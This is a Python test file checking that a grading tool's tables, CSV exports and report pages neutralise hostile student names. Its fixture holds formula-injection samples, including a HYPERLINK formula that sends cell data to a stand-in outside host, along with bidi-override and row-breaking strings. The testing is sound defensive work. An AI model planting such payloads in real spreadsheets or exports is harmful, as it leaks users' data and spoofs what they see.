"""Names in tables: one line, nothing hidden, no formula, and all of it can be read back."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markupsafe import escape

from grader.grading.results import CheckResult, Result
from grader.pages.plain_cells import as_cell, from_cell, one_line, width
from grader.reports.class_report import make_report
from grader.reports.table import class_table, misconception_list, write_csv

pytestmark = pytest.mark.fast

NAMES = {
    "a formula": "=1+1",
    "a sum": "+1",
    "a difference": "-1",
    "a call": "@SUM(A1)",
    "a link": '=HYPERLINK("https://outside.example/?"&A1,"me")',
    "a wide sign": "\uff1d1+1",
    "a tab before": "\t=1+1",
    "a return before": "\r=1+1",
    "a blank before": " =1+1",
    "after a separator of another country": "me;=1+1",
    "after a comma": "me,-1",
    "quoted": '"=1+1',
    "an apostrophe before": "'=1+1",
    "two lines": "ada\neve,100,100",
    "two lines by a return": "ada\reve",
    "two lines by Unicode": "ada\u2028eve\u2029bob\u0085",
    "turned round": "ada\u202egnorw",
    "isolated": "ada\u2067x\u2069",
    "no width": "ada\u200b\ufeff",
    "an escape": "\x1b[31mred\x07",
    "nothing": "\x00",
    "half a character": "\udc80",
    "what looks like its own picture": "\u2409<U+202E>",
    "Hindi": "श्रीनिवास\u200d",
    "plain": "O'Neil-Müller, José",
}
BREAKS = "\n\r\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029"


def graded(name):
    check = CheckResult("f", 1, 2, False, False, False, ("wrong",), "")
    return Result(name, points=1.0, most=2.0, checks=(check,), notes=(name,), origin=name)


@pytest.mark.parametrize("name", NAMES.values(), ids=NAMES)
def test_a_cell_is_no_formula_wherever_it_is_split_and_is_read_back(name):
    cell = as_cell(name)
    assert from_cell(cell) == name
    for separator in ",;|\t":
        for piece in cell.split(separator):
            assert not piece.lstrip().startswith(tuple("=+-@\uff1d\uff0b\uff0d\uff20\t\r")), piece
    cell.encode("utf-8")


@given(st.text(st.characters() | st.sampled_from("=+-@',;|\t\r\n <U+202E>\u202e")))
def test_every_text_is_read_back_as_it_was(text):
    assert from_cell(as_cell(text)) == text


@pytest.mark.parametrize("name", NAMES.values(), ids=NAMES)
def test_a_learner_is_one_line_in_every_table(name, tmp_path):
    results = [graded(name), graded("next")]
    table = class_table(results)
    assert len(table.splitlines()) == 4 and one_line(name) in table
    assert len(misconception_list(results).splitlines()) == 2
    assert not set(table + misconception_list(results)) & set(BREAKS + "\t\x1b\x00\u202e") - {"\n"}
    write_csv(results, tmp_path / "table.csv")
    text = (tmp_path / "table.csv").read_text(encoding="utf-8-sig")
    assert len(text.splitlines()) == 3
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [from_cell(row["student"]) for row in rows] == [name, "next"]
    assert from_cell(rows[0]["file"]) == name and rows[0]["points"] == "1"


def test_no_learners_name_hides_or_breaks_anything_on_the_page():
    """All of them on one page: what one of them could do there, it would do beside the others."""
    page = make_report([graded(name) for name in NAMES.values()], "00_start_here", None)
    assert not set(page) & set("\t\x1b\x00\u202e\u2028\u2067\udc80")
    assert all(str(escape(one_line(name))) in page for name in NAMES.values())
    page.encode("utf-8")


def test_a_spreadsheet_knows_the_files_encoding(tmp_path):
    write_csv([graded("श्रीनिवास")], tmp_path / "table.csv")
    assert (tmp_path / "table.csv").read_bytes().startswith(b"\xef\xbb\xbf")


def test_columns_stand_below_each_other_whatever_the_script():
    table = class_table([graded("李小龍"), graded("Jose\u0301"), graded("ada")]).splitlines()
    assert len({width(line[: line.index("1/2")]) for line in table[2:]}) == 1


def test_a_table_says_which_rows_are_of_this_run(tmp_path):
    results = [graded("ada"), Result("eve", points=1.0, most=2.0, this_run=False)]
    write_csv(results, tmp_path / "table.csv")
    with (tmp_path / "table.csv").open(encoding="utf-8-sig", newline="") as file:
        assert {row["student"]: row["this_run"] for row in csv.DictReader(file)} == {"ada": "yes", "eve": "no"}
    page = make_report(results, "00_start_here", None)
    assert "1 of these 2 rows are of the last run, 1 of earlier ones" in page and "eve (earlier run)" in page
    assert "earlier" not in make_report(results[:1], "00_start_here", None)
